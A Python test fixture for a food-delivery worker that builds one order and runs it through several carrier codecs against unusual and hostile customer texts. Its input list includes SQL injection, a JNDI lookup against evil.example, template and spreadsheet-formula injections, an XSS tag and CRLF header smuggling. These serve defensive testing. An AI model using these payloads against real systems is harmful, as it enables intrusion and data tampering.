"""One order for every carrier's codec, and hostile texts."""

from datetime import UTC, datetime
from decimal import Decimal
from typing import Any, Literal

from pydantic import SecretStr

from schemas.order import Customer, Dropoff, Order, Payment
from tests.domain.scenario import a_store
from worker.carriers.borzo import Borzo, BorzoAccount
from worker.carriers.cervo import Cervo, CervoAccount
from worker.carriers.deliverit import DeliverIt, DeliverItAccount
from worker.carriers.port import Booking, Carrier

NOW = datetime(2026, 11, 21, 17, 0, tzinfo=UTC)
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
TEXTS = [
    "Zoë 🍕",
    f"the {FAMILY} family",
    "\u202eevil\u202c Jane",
    "e\u0301 \u0e01\u0e33 Z\u0351\u036b",
    "zero\u200bwidth\u2060joined",
    "سارة الحربي",
    "\U0001fae9 younger than this Python",
    "'; DROP TABLE delivery; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %} ${7*7}",
    '=cmd|"/c calc"!A1',
    "@SUM(1+1)*cmd",
    "<script>alert(1)</script>",
    "%0d%0aX-Evil: 1",
    '"}, "price": 0, "x": {"',
    "&telephone=00000000",
]
"""Each is one line without control characters, so every carrier must be sent exactly this."""
BROKEN = "Jane\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1\x00\x07"
STORE = a_store("deliverit", "borzo", "cervo")


def _deliverit(encoding: Literal["form", "json"]) -> DeliverIt:
    password = SecretStr("p")
    account = DeliverItAccount(
        name="deliverit", kind="deliverit", username="u", password=password, company="14", encoding=encoding
    )
    return DeliverIt(account, {})


CODECS: dict[str, Carrier] = {
    "cervo": Cervo(CervoAccount(name="cervo", kind="cervo", token=SecretStr("t"), currency="DKK"), {}),
    "borzo": Borzo(BorzoAccount(name="borzo", kind="borzo", token=SecretStr("t")), {}),
    "form": _deliverit("form"),
    "json": _deliverit("json"),
}


def booking(name: str = "Jane", notes: str = "", **dropoff: Any) -> Booking:
    place = {"street": "Nørregade 7", "postal_code": "5000", "city": "Odense C", "latitude": 55.39, "longitude": 10.38}
    order = Order(
        order_id="2011",
        store_id="17",
        customer=Customer(name=name, phone="+4520304050"),
        dropoff=Dropoff(**{**place, **dropoff}),
        payment=Payment(prepaid=True, amount=Decimal("125.00"), currency="DKK"),
        notes=notes,
    )
    return Booking(1234567890123456, 1, order, STORE, NOW)
